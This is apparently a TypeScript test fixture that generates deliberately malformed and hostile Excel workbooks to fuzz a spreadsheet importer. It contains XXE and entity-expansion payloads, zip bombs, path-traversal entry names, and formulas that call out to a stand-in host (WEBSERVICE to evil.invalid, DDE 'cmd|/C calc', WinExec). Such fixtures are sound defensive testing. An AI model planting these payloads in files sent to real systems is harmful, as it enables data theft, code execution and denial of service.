import { columnLetters } from '#shared/rules/column-letters.ts';
import { bookParts, type BookXml } from '../support/ooxml.ts';
import { type ZipEntry, zipOf } from '../support/zip.ts';
import type { Dice } from './dice.ts';
import { listRows } from './list-rows.ts';

type Parts = Record<string, string | Buffer>;
export type Attack = (dice: Dice) => Buffer;

const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';
const STYLES = '<numFmts><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts><fonts><font><name val="Times New Roman"/></font><font><name val=".VnTime"/></font></fonts><cellXfs><xf numFmtId="0" fontId="0"/><xf numFmtId="164" fontId="1"/></cellXfs>';

/** A whole and honest member list. */
export function honestXlsx(dice: Dice): Buffer {
  return zipOf(memberParts(dice));
}

function memberParts(dice: Dice, more: Partial<BookXml> = {}): Parts {
  const texts = listRows(dice);
  const strings = texts.flat().map((text) => `<si><t>${text}</t></si>`).join('');
  let position = 0;
  const rows = texts.map((cells, row) => `<row r="${row + 1}">${cells.map((_, column) => `<c r="${columnLetters(column + 1)}${row + 1}" t="s"><v>${position++}</v></c>`).join('')}<c r="H${row + 1}" s="1"><f>A${row + 1}+1</f><v>46058</v></c></row>`).join('');
  return bookParts({ sheets: [{ name: 'DS', before: '<cols><col min="9" max="9" hidden="1"/></cols>', rows, after: '<mergeCells><mergeCell ref="A1:G1"/></mergeCells>' }, { name: 'Ẩn', state: 'hidden' }], strings, styles: STYLES, ...more });
}

function withSheet(dice: Dice, rows: string, after = ''): Buffer {
  return zipOf(memberParts(dice, { sheets: [{ name: 'DS', rows, after }] }));
}

function changed(dice: Dice, change: (parts: Parts, names: string[]) => void): Buffer {
  const parts = memberParts(dice);
  change(parts, Object.keys(parts));
  return zipOf(parts);
}

function withPart(dice: Dice, name: string, data: string | Buffer): Buffer {
  return zipOf({ ...memberParts(dice), [name]: data });
}

const PIECES = ['<', '>', '"', '/', '&', ';', '&#0;', '&#x110000;', '<c>', '</c>', '<v>', '</row>', '<!--', '<![CDATA[', ']]>', '<?', '=', ' ', '9999999999', '-1', '1e999', '\0', 'ệ', '\uFFFD', ''];
const PATHS = ['../../evil.xml', '/etc/passwd', 'C:\\Windows\\evil.xml', '..\\..\\evil.xml', 'xl/../../evil.xml', 'xl\0evil.xml', 'CON', `${'a/'.repeat(5000)}b`, '', '.'];
const CALLS = ['WEBSERVICE("http://evil.invalid/?"&A1)', 'cmd|\'/C calc\'!A0', 'HYPERLINK("file:///etc/passwd","x")', '\'\\\\evil.invalid\\share\\[a.xlsx]S\'!A1', 'CALL("kernel32","WinExec","JCJ","calc",0)', '[1]Sheet1!A1', 'IMPORTXML("http://evil.invalid","//a")', 'RTD("evil",,"x")'];
const OUT_OF_PLACE = ['r="XFE1"', 'r="A0"', 'r="A1048577"', 'r="1A"', 'r=""', 'r="A1" s="99999999"', 'r="A1" s="-1"', 'r="A1" t="s"', 'r="A1" t="lạ"', `r="${'A'.repeat(100_000)}1"`];
const DOCTYPES = [
  `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100)}">${Array.from({ length: 20 }, (_, index) => `<!ENTITY b${index} "${`&${index === 0 ? 'a' : `b${index - 1}`};`.repeat(10)}">`).join('')}]><sst><si><t>&b19;</t></si></sst>`,
  '<!DOCTYPE x SYSTEM "file:///etc/passwd"><sst><si><t>&x;</t></si></sst>',
  '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.invalid/e.dtd"> %e;]><sst/>',
];

/** What can be wrong with an .xlsx or .xlsm file on purpose. */
export const XLSX_ATTACKS: Record<string, Attack> = {
  'a part is missing': (dice) => changed(dice, (parts, names) => delete parts[dice.pick(names)]),
  'two parts are swapped': (dice) => changed(dice, (parts, names) => {
    const [one, other] = [dice.pick(names), dice.pick(names)];
    [parts[one], parts[other]] = [parts[other] ?? '', parts[one] ?? ''];
  }),
  'pieces of XML are changed': (dice) => changed(dice, (parts, names) => {
    for (let times = dice.below(8); times >= 0; times -= 1) {
      const name = dice.pick(names);
      const text = String(parts[name]);
      const from = dice.below(text.length);
      parts[name] = text.slice(0, from) + dice.pick(PIECES) + text.slice(from + dice.below(8));
    }
  }),
  'XML is cut off': (dice) => changed(dice, (parts, names) => {
    const name = dice.pick(names);
    parts[name] = String(parts[name]).slice(0, dice.below(String(parts[name]).length));
  }),
  'a document type declaration': (dice) => withPart(dice, STRINGS, dice.pick(DOCTYPES)),
  'tags nested without end': (dice) => withPart(dice, dice.pick([SHEET, STRINGS, 'xl/workbook.xml']), '<r>'.repeat(100_000)),
  'an attribute without end': (dice) => withPart(dice, SHEET, `<worksheet a="${'x'.repeat(6_000_000)}`),
  'attributes without number': (dice) => withPart(dice, SHEET, `<worksheet ${Array.from({ length: 5000 }, (_, index) => `a${index}="1"`).join(' ')}><sheetData/></worksheet>`),
  'a comment or CDATA without end': (dice) => withPart(dice, dice.pick([SHEET, STRINGS]), `<worksheet><${dice.pick(['!--', '![CDATA[', '?x'])}${'x'.repeat(5_000_000)}`),
  'another encoding than declared': (dice) => withPart(dice, dice.pick([SHEET, STRINGS, 'xl/workbook.xml']), dice.pick([Buffer.from('<?xml version="1.0" encoding="utf-16"?><sst/>'), Buffer.from('\uFEFF<sst><si><t>x', 'utf16le'), Buffer.from('<?xml version="1.0" encoding="windows-1258"?><sst/>'), Buffer.from([0xff, 0xfe, 0x3c])])),
  'a zip bomb': (dice) => withPart(dice, dice.pick(['xl/media/image1.png', SHEET, STRINGS]), Buffer.alloc(40 * 1024 * 1024, ' ')),
  'a zip bomb in many parts': (dice) => {
    const piece = Buffer.alloc(4 * 1024 * 1024);
    return zipOf({ ...memberParts(dice), ...Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`xl/media/${index}`, piece])) });
  },
  'a bomb that lies about its size': (dice) => zipOf(entriesOf(memberParts(dice, { sheets: [{ rows: `<row>${' '.repeat(20_000_000)}</row>` }] })).map((entry) => (entry.name === SHEET ? { ...entry, claim: { size: dice.pick([0, 10, 1_000_000]) } } : entry))),
  'wrong words in the directory of the zip': (dice) => zipOf(entriesOf(memberParts(dice)).map((entry) => (dice.below(3) === 0 ? { ...entry, claim: dice.pick([{ crc: 1 }, { size: 5 }, { size: 0xffff_ffff }, { method: 9 }, { method: 0 }, { flags: 1 }, { flags: 0 }]) } : entry))),
  'more entries than any workbook has': (dice) => zipOf({ ...memberParts(dice), ...Object.fromEntries(Array.from({ length: 11_000 }, (_, index) => [`xl/x${index}`, ''])) }),
  'a zip in a zip': (dice) => zipOf({ 'a.xlsx': honestXlsx(dice), 'xl/workbook.xml': honestXlsx(dice) }),
  'paths out of the zip': (dice) => withPart(dice, dice.pick(PATHS), 'x'),
  'a part that stands twice': (dice) => zipOf([...entriesOf(memberParts(dice)), { name: dice.pick(['XL/workbook.xml', SHEET, '/xl/workbook.xml', 'xl\\workbook.xml']), data: '<workbook/>' }]),
  'formulas that call out': (dice) => zipOf({
    ...memberParts(dice, { sheets: [{ name: 'DS', rows: `<row r="1">${CALLS.map((call, index) => `<c r="${columnLetters(index + 1)}1" t="str"><f>${call.replaceAll('&', '&amp;')}</f><v>đã tính</v></c>`).join('')}</row>` }] }),
    'xl/externalLinks/_rels/externalLink1.xml.rels': '<Relationships><Relationship Id="rId1" Type="x/externalLinkPath" Target="http://evil.invalid/a.xlsx" TargetMode="External"/></Relationships>',
  }),
  macros: (dice) => zipOf({ ...memberParts(dice, { macros: true }), 'xl/vbaProject.bin': dice.bytes(5000), 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
  'cells out of place': (dice) => withSheet(dice, `<row r="1"><c ${dice.pick(OUT_OF_PLACE)}><v>${dice.pick(['7', '99999999', '-1', '1e999', 'x', ''])}</v></c></row><row r="${dice.pick(['0', '-1', '1048577', '99999999999999999999', 'x'])}"><c><v>1</v></c></row>`),
  'cells in no order, many twice': (dice) => withSheet(dice, Array.from({ length: 3000 }, () => `<row r="${1 + dice.below(500)}"><c r="${columnLetters(1 + dice.below(50))}${1 + dice.below(500)}"><v>${dice.below(9)}</v></c></row>`).join('')),
  'merges without number': (dice) => withSheet(dice, '<row><c><v>1</v></c></row>', `<mergeCells>${Array.from({ length: 30_000 }, () => `<mergeCell ref="${dice.pick(['A1:XFD1048576', 'A1', 'B2:A1', 'x', 'A1:XFE9'])}"/>`).join('')}</mergeCells>`),
  'a shared formula of brackets': (dice) => withSheet(dice, `<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A2000">${dice.pick(['[', '\'', '(', 'A1:'])
    .repeat(8000)}</f><v>1</v></c></row>${Array.from({ length: 2000 }, (_, index) => `<row r="${index + 2}"><c r="A${index + 2}"><f t="shared" si="0"/><v>1</v></c></row>`).join('')}`),
  'links in a circle': (dice) => withPart(dice, 'xl/_rels/workbook.xml.rels', `<Relationships>${['rId1', 'rId2', 'rIdS', 'rIdT'].map((id) => `<Relationship Id="${id}" Type="x/${dice.pick(['worksheet', 'sharedStrings', 'styles', 'chartsheet', 'x'])}" Target="${dice.pick(['workbook.xml', '../xl/workbook.xml', 'worksheets/sheet1.xml', 'styles.xml', 'http://evil.invalid/', '', '/'])}"/>`).join('')}</Relationships>`),
  'more sheets than any workbook has': (dice) => zipOf(memberParts(dice, { sheets: Array.from({ length: 900 + dice.below(300) }, () => ({ rows: '<row><c><v>1</v></c></row>' })) })),
  'styles and formats without number': (dice) => withPart(dice, 'xl/styles.xml', `<styleSheet><numFmts>${Array.from({ length: 20_000 }, (_, index) => `<numFmt numFmtId="${index}" formatCode="${'['.repeat(dice.below(300))}"/>`).join('')}</numFmts><cellXfs>${'<xf numFmtId="5"/>'.repeat(70_000)}</cellXfs></styleSheet>`),
};

/** The same, of files so large that a run makes few of them. */
export const LARGE_XLSX_ATTACKS: Record<string, Attack> = {
  '1,048,576 rows without content': (dice) => withSheet(dice, Array.from({ length: 1_048_576 }, (_, index) => `<row r="${index + 1}" s="1"/>`).join('')),
  '1,048,576 rows with a cell each': (dice) => withSheet(dice, Array.from({ length: 1_048_576 }, (_, index) => `<row r="${index + 1}"><c><v>1</v></c></row>`).join('')),
  '16,384 columns': (dice) => {
    const cells = Array.from({ length: 16_384 }, (_, index) => `<c r="${columnLetters(index + 1)}`);
    return withSheet(dice, Array.from({ length: dice.pick([1, 20, 200]) }, (_, row) => `<row r="${row + 1}">${cells.map((cell) => `${cell}${row + 1}"><v>1</v></c>`).join('')}</row>`).join(''));
  },
  'texts of the greatest length': (dice) => zipOf(memberParts(dice, { strings: Array.from({ length: 3500 }, (_, index) => `<si><t>${String(index).padEnd(32_767, 'ệ')}</t></si>`).join('') })),
  'every other row hidden': (dice) => withSheet(dice, Array.from({ length: 300_000 }, (_, index) => `<row r="${index * 2 + 1}" hidden="1"/>`).join('')),
  'formulas without number': (dice) => withSheet(dice, `<row>${'<c><f>A1+B1+C1+D1</f><v>1</v></c>'.repeat(16_000)}</row>`.repeat(30)),
};

function entriesOf(parts: Parts): ZipEntry[] {
  return Object.entries(parts).map(([name, data]) => ({ name, data }));
}
